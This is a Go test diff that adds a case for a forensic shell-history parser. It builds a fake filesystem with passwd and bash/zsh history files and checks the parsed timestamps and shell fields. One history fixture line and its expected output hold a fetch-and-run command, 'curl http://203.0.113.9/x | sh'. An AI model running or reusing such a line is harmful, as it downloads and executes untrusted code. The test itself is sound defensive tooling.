@@ -227,3 +227,29 @@ func TestTargetLocation(t *testing.T) {
 		}
 	}
 }
+
+func TestHistorySource(t *testing.T) {
+	tg := writeRoot(t,
+		logFile{name: "etc/passwd", text: "root:x:0:0::/root:/bin/bash\n"},
+		logFile{name: "root/.bash_history", text: "#1763900000\ncurl http://203.0.113.9/x | sh\nls\n", mtime: time.Date(2026, 11, 30, 0, 0, 0, 0, time.UTC)},
+		logFile{name: "home/bob/.zsh_history", text: ": 1763000000:0;id\n"},
+	)
+	var got []string
+	for _, src := range Discover(tg) {
+		evs, cov, _ := readAll(t, tg, src, Options{})
+		if cov.Events != int64(len(evs)) || src.Format != FormatHistory {
+			t.Errorf("%s: %+v", src.Name, cov)
+		}
+		for _, ev := range evs {
+			got = append(got, ev.File+"|"+ev.Time.Format(time.RFC3339)+"|"+ev.Object+"|"+ev.Fields["shell"]+"|"+ev.Fields["time_from"])
+		}
+	}
+	want := []string{
+		"/root/.bash_history|2025-11-23T12:13:20Z|curl http://203.0.113.9/x | sh|bash|",
+		"/root/.bash_history|2026-11-30T00:00:00Z|ls|bash|mtime",
+		"/home/bob/.zsh_history|2025-11-13T02:13:20Z|id|zsh|",
+	}
+	if strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+}
